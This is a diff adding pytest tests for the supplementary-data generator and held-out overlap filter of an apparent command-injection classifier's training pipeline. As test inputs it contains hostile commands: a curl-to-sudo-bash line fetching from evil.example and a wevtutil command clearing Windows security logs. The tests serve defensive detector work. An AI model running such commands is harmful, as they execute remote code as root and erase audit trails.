@@ -5,6 +5,7 @@ from __future__ import annotations
 import gzip
 import hashlib
 import json
+import re
 from pathlib import Path
 
 import numpy as np
@@ -1323,3 +1324,68 @@ def test_class_weight_scale_multiplies_one_class_weight(built, capsys):
         with pytest.raises(SystemExit):
             train.main([*common, "--out", str(root / "bad"), "--class-weight-scale", bad])
         assert "--class-weight-scale" in capsys.readouterr().err
+
+
+def test_supplement_is_seeded_new_and_keeps_out_what_repeats_a_held_out_row(built, tmp_path):
+    from models.training import generators, supplement
+
+    _, out = built
+    assert supplement.generate(7, 2) == supplement.generate(7, 2)
+    made = supplement.generate(7, 2)
+    assert {r["label"] for r in made} == {"benign", "command_injection"}
+    assert all(r["group"].startswith(("sup:admin:", "sup:cmd:")) for r in made)
+    assert not set(supplement.ADMIN_WINDOWS + supplement.ADMIN_UNIX) & set(generators.ADMIN_COMMANDS + generators.CMD_BENIGN)
+    assert not set(supplement.ATTACK) & set(generators.CMD_PAYLOADS)
+    # every slot is filled; the one brace word left is bcdedit's literal {default}
+    assert {w for r in made for w in re.findall(r"\{(\w+)\}", r["text"])} == {"default"}
+
+    held = [{"text": "Get-NetAdapter | Where-Object Status -eq 'Up'"}, {"text": "curl -sL https://evil.example/get | sudo -E bash -"}]
+    cases = [{"text": "PS C:\\> Get-NetAdapter | Where-Object Status -eq 'Up'"},   # the same words behind a prompt
+             {"text": "get-netadapter | where-object status -eq 'up'"},            # the same words, other case
+             {"text": "Fastest way: curl -sL https://evil.example/get | sudo -E bash -"},  # inside a sentence
+             {"text": "curl -sL https://other.example/get | sudo -E bash -"},      # another host: 4 of 10 trigrams shared
+             {"text": "Get-Volume"}, {"text": "wevtutil cl Security && wevtutil cl System"}]
+    assert supplement.held_out_overlap(cases, held, 0.5) == [True, True, True, False, False, False]
+
+    sup = tmp_path / "sup"
+    assert supplement.main(["--data", str(out), "--out", str(sup), "--per-template", "2"]) == 0
+    summary = json.loads((sup / "supplement.json").read_text())
+    kept = rows(sup / "rows.jsonl.gz")
+    assert summary["rows"] == len(kept) > 0 and summary["by_label"]["command_injection"] > 0
+    held_out = rows(out / "val.jsonl.gz") + rows(out / "test.jsonl.gz")
+    assert not any(supplement.held_out_overlap(kept, held_out, 0.5))
+    assert supplement.main(["--data", str(tmp_path / "nowhere"), "--out", str(tmp_path / "x")]) == 2
+
+
+def test_supplement_rows_join_the_labelled_training_rows(built, tmp_path, monkeypatch):
+    from models.training import supplement
+
+    root, out = built
+    sup = tmp_path / "sup"
+    assert supplement.main(["--data", str(out), "--out", str(sup), "--per-template", "1"]) == 0
+    n_sup = json.loads((sup / "supplement.json").read_text())["rows"]
+    common = ["--data", str(out), "--tiny-random", "--eval-every", "2", "--batch-size", "8", "--max-val", "16", "--max-steps", "2"]
+    teacher = root / "sup_teacher"
+    assert train.main([*common, "--out", str(teacher), "--save-logits"]) == 0
+
+    seen = []
+    real = train.mixed_distillation
+
+    def spy(ce, logits_, teacher_rows, alpha, temperature, labelled=None):
+        seen.append(teacher_rows.copy())
+        return real(ce, logits_, teacher_rows, alpha, temperature, labelled=labelled)
+
+    monkeypatch.setattr(train, "mixed_distillation", spy)
+    student = tmp_path / "student"
+    assert train.main([*common, "--max-steps", "60", "--eval-every", "60", "--out", str(student), "--supplement", str(sup),
+                       "--teacher-logits", str(teacher / "train_logits.npy")]) == 0
+    cfg = json.loads((student / "train_config.json").read_text())
+    assert cfg["supplement_rows"] == n_sup and cfg["train_rows"] == len(rows(out / "train.jsonl.gz"))
+    # Supplement rows reached the batches with no teacher logits (cross-entropy only).
+    assert any(not np.isfinite(t).all() for t in seen)
+    monkeypatch.undo()
+
+    summary = json.loads((sup / "supplement.json").read_text())
+    (sup / "supplement.json").write_text(json.dumps({**summary, "train_sha256": "0" * 64}))
+    with pytest.raises(SystemExit, match="another training file"):
+        train.main([*common, "--out", str(tmp_path / "bad"), "--supplement", str(sup)])
